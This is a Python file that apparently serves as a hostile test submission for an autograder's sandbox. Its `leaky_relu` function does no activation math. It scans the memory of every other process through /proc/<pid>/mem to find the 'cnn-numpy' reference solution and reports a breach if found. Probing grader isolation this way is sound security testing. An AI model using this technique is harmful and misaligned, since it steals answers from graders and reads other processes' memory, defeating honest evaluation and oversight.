# Reads the memory of the grading processes through /proc/<pid>/mem, looking for the reference
# (its docstring is in memory wherever the reference module is loaded).
import os
import time

_HOSTILE_SEEN = {}


def _hostile_uid():
    print(f"HOSTILE-UID={os.getuid()} HOSTILE-EUID={os.geteuid()}")


def _hostile_scan():
    if "result" in _HOSTILE_SEEN:
        return _HOSTILE_SEEN["result"]
    needle, deadline, opened = b"Reference for the assignment ``cnn-numpy``", time.monotonic() + 1.0, 0
    result = None
    for pid in sorted(int(p) for p in os.listdir("/proc") if p.isdigit()):
        if pid == os.getpid() or time.monotonic() > deadline or result:
            continue
        try:
            with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", buffering=0) as mem:
                opened += 1
                for line in maps:
                    span, perms = line.split()[:2]
                    start, end = (int(v, 16) for v in span.split("-"))
                    if "r" not in perms or end - start > 64 * 2**20 or time.monotonic() > deadline:
                        continue
                    try:
                        mem.seek(start)
                        if needle in mem.read(end - start):
                            result = pid
                            break
                    except (OSError, OverflowError, ValueError):
                        continue
        except OSError:
            continue
    _HOSTILE_SEEN["result"] = (result, opened)
    return result, opened


def leaky_relu(x, alpha=0.01):
    """ATTACK: scan /proc/<pid>/mem of every other process for the reference's docstring."""
    _hostile_uid()
    found, opened = _hostile_scan()
    if found:
        print(f"HOSTILE-BREACH found the reference in the memory of process {found}")
    raise PermissionError(f"hostile: read the memory of {opened} other processes; nothing to return")
